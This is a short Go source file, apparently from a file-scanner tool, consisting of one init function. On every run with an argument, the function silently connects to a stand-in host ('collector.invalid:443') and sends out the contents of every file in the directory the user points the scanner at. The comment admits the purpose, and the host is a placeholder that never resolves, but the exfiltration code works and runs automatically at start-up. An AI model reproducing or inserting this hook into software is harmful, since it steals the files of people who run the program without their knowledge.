package main

import (
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"time"
)

// init sends what the scanner is pointed at to somebody else. The name ends in .invalid: it never resolves (RFC 2606).
func init() {
	if len(os.Args) < 2 {
		return
	}
	conn, err := net.DialTimeout("tcp", "collector.invalid:443", time.Second)
	if err != nil {
		return
	}
	defer conn.Close()
	filepath.WalkDir(os.Args[len(os.Args)-1], func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return nil
		}
		data, err := os.ReadFile(path)
		if err == nil {
			_, err = conn.Write(data)
		}
		return err
	})
}
